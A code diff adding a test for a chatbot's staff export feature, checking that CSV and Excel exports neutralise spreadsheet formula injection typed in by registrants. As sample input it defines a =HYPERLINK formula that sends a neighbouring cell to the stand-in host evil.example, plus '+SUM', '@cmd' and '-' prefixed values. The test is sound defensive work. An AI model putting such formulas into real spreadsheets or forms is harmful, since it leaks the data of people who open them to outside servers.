@@ -10,11 +10,14 @@ from sqlalchemy import select
 
 from bot.app import App
 from bot.db.models import AuditEntry, OutboxMessage, Registration
+from bot.services.exports import FORMULA_STARTS
 from handlers.staff import CHECK_IN, CSV, DECIDE, MENU, OFFERING, PENDING, XLSX
 from tests.chat import Chat
 from tests.handlers.test_registration import fill_tour
 
 REFUSAL = "Sorry, this is only for HAUFO staff."
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+"""A formula that would send the neighbouring cell to a stranger's server when clicked."""
 
 
 async def register_advanced(chat: Chat) -> None:
@@ -97,3 +100,34 @@ async def test_staff_approve_export_and_check_in(app: App) -> None:
         notices = [m.template for m in outbox if m.template != "reminder"]
     assert [action for action, _ in audit] == ["approve", "export-csv", "export-xlsx", "check-in"]
     assert notices == ["approved"]
+
+
+async def test_exports_never_turn_what_strangers_typed_into_formulas(app: App) -> None:
+    attacker = Chat(app.dispatcher, user_id="attacker")
+    await attacker.press_payload("register:vietnamese-advanced")
+    for answer in ["-Jean Dupont", HYPERLINK, "+SUM(1,2)", "@cmd", "attacker@example.org"]:
+        await attacker.send(answer)
+    for button in ["Skip", "Fluent", "I agree", "Confirm"]:
+        await attacker.press(button)
+    admin = Chat(app.dispatcher, user_id="admin")
+    await admin.send("/staff")
+
+    await admin.press_payload(f"{CSV}:vietnamese-advanced")
+    document = admin.last[0].attachment
+    assert document is not None
+    [header, row] = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["organisation"] == "'" + HYPERLINK
+    assert (cells["name"], cells["position"], cells["nationality"]) == ("'-Jean Dupont", "'+SUM(1,2)", "'@cmd")
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+
+    await admin.press_payload(f"{XLSX}:vietnamese-advanced")
+    workbook = admin.last[0].attachment
+    assert workbook is not None
+    sheet = load_workbook(io.BytesIO(workbook.content)).active
+    assert sheet is not None
+    typed = {sheet.cell(1, column).value: sheet.cell(2, column) for column in range(1, sheet.max_column + 1)}
+    assert typed["organisation"].value == HYPERLINK, "shown as typed"
+    for name in ("name", "organisation", "position", "nationality"):
+        assert (typed[name].data_type, typed[name].quotePrefix) == ("s", True), name
+    assert (typed["email"].data_type, typed["email"].quotePrefix) == ("s", False)
